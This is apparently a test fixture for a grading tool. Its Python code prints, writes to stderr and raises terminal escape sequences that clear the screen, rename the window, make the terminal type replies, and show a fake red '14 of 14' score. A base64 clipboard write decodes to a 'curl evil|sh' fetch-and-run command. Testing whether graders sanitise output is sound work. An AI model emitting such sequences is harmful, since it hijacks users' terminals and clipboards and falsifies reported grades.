"""Terminal escapes in everything that is printed or raised.

They clear the screen, rename the window, write onto the clipboard, ask the terminal to type its answer at the prompt, and colour
the points of others. The table of grades and `dlvm replay` print what an answer said.
"""
# seen: ]52;c;Y3VybCBldmlsfHNo
# answers: square_sum, noise

# %% attack
import sys

ESCAPES = (
    "\x1b[2J\x1b[H\x1b]0;mine\x07\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[31m14 of 14\x1b[0m\r\x08\x7f\x9b2J\x9d0;mine\x9c\x1bP$q\x1b\\"
    "\x1b[6n\x1b[c\x00\x0e\u2028\u2029\u0085"
)


class Codec:
    def encode(self, x):
        print(ESCAPES)
        sys.stderr.write(ESCAPES)
        raise type(f"Loud{ESCAPES}", (Exception,), {})(ESCAPES)

    def decode(self, t):
        return {ESCAPES: t}


def mischief():
    print(ESCAPES)
